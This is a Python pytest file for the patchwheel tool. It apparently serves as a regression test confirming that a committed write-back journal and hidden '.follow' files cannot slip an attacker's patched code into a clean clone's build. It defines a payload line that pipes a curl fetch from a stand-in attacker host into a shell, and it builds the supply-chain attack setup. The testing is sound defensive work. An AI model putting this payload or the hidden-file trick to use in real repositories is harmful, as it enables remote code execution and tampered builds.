"""The write-back journal (``patchwheel.writeback``): what a kill leaves of follow's and derive's one-step write is
finished or undone by the next command, and nothing a commit carries is taken for it (issue 45, items 1 and 2)."""

from __future__ import annotations

import hashlib
import json
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
from conftest import CORE, INIT, TRAILERS, Demo, make_patch

from patchwheel import cli, gitops

#: What the attacker's series adds to the demo's code: no patch of the commit that carries it holds this.
PAYLOAD = b"__import__('os').system('curl attacker.invalid | sh')  # code no patch holds\n"


def files_of(root: Path) -> dict[str, str]:
    """Every file of the work tree (``.git`` left out) with its sha256: what a command may not change."""
    return {
        p.relative_to(root).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(root.rglob("*"))
        if p.is_file() and ".git" not in p.relative_to(root).parts
    }


def commit_all(repo: Path, message: str) -> None:
    gitops.git(repo, "add", "-A")
    gitops.commit(repo, message)


def evil_edit(files: dict[str, bytes]) -> dict[str, bytes]:
    core = files["src/demo/core.py"].replace(b'"hello " + name', b'"hello, " + name')
    return {**files, "src/demo/core.py": core + b"\n" + PAYLOAD}


def carry_a_journal(demo: Demo, tmp_path: Path, attack: str) -> None:
    """Commit on top of the demo (a git checkout) what the attack of issue 45 commits: the write-back journal of
    main (``.patchwheel-writeback.json`` at the root), and with it (``attack="replace"``) hidden ``.x.follow``
    files beside the tracked files they name, which make the project the attacker's series (its patch, vendored
    modules and build record): no tracked file changes, ``git log -p`` of the patches shows nothing; or
    (``attack="remove"``) a list of tracked files to delete."""
    renames: dict[str, str] = {}
    removes: list[str] = []
    if attack == "remove":
        removes = ["overlay/NOTICE", "patches/demo/1.0.0/series"]
    else:
        evil = Demo(tmp_path / "evil", demo.index, demo.cache, demo.upstream, demo.sha256)
        shutil.copytree(demo.root, evil.root, ignore=shutil.ignore_patterns(".git"))
        upstream = {"src/demo/core.py": CORE, "src/demo/__init__.py": INIT}
        evil.set_series(("0001-greet-comma.patch", make_patch(upstream, evil_edit, "Greet with a comma", TRAILERS)))
        honest, wanted = files_of(demo.root), files_of(evil.root)
        assert set(honest) == set(wanted)
        for rel in sorted(wanted):
            if honest[rel] != wanted[rel]:
                target = demo.root / rel
                staged = target.parent / f".{target.name}.k3x9q.follow"
                staged.write_bytes((evil.root / rel).read_bytes())
                renames[rel] = staged.name
        shutil.rmtree(evil.root)
        assert "overlay/demo/pins.toml" in renames and "patches/demo/1.0.0/0001-greet-comma.patch" in renames
    (demo.root / ".patchwheel-writeback.json").write_text(json.dumps({"renames": renames, "removes": removes}))
    commit_all(demo.root, "Tidy the docs")


def wheels_with_payload(dist: Path) -> list[str]:
    found = []
    for whl in sorted(dist.rglob("*.whl")):
        with zipfile.ZipFile(whl) as zf:
            found += [f"{whl.name}!{m}" for m in zf.namelist() if PAYLOAD.strip() in zf.read(m)]
    return found


@pytest.mark.parametrize("attack", ["replace", "remove"])
def test_a_commit_carrying_a_journal_changes_nothing_on_a_clean_clone(demo_project, tmp_path, capsys, attack):
    """Issue 45, item 1: a pull request that adds main's journal and a few hidden ``.x.follow`` files. On main the
    first command of a clean clone (even ``lint``) rolled that journal forward: it copied the staged files over the
    tracked ones, deleted what the list named, and ``lint`` then passed and ``build`` shipped the attacker's code
    under the next build number. The tool's journal now lives where no commit can put it: a clean clone is read as
    committed, ``lint`` names the hidden files, and the build ships only what the committed patches hold."""
    gitops.git(demo_project.root, "init", "-q", "-b", "main")
    commit_all(demo_project.root, "The demo project")
    carry_a_journal(demo_project, tmp_path, attack)
    clone = tmp_path / "clone"
    subprocess.run(["git", "clone", "-q", str(demo_project.root), str(clone)], check=True, env=gitops.git_env(clone))
    committed = files_of(clone)
    assert clone.joinpath(".patchwheel-writeback.json").is_file()

    lint = cli.main(["--root", str(clone), "lint"])
    out, err = capsys.readouterr()
    now = files_of(clone)
    changed = sorted(rel for rel in set(committed) | set(now) if committed.get(rel) != now.get(rel))
    assert changed == [], f"lint changed the clean clone (exit {lint}): {changed}\n{out}{err}"
    assert lint == 1, out + err
    if attack == "replace":
        assert "patches/demo/1.0.0/.0001-greet-comma.patch.k3x9q.follow starts with '.'" in out, out
    assert ".patchwheel-writeback.json is not the tool's" in out, out

    dist = tmp_path / "dist"
    build = cli.main(["--root", str(clone), "build", "--dist", str(dist)])
    out, err = capsys.readouterr()
    assert files_of(clone) == committed, f"build changed the clean clone (exit {build})\n{out}{err}"
    assert wheels_with_payload(dist) == [], "the build shipped code that no committed patch holds"
    assert build == 0 and "demo-1.0.0+fixed-1-" in out, out + err
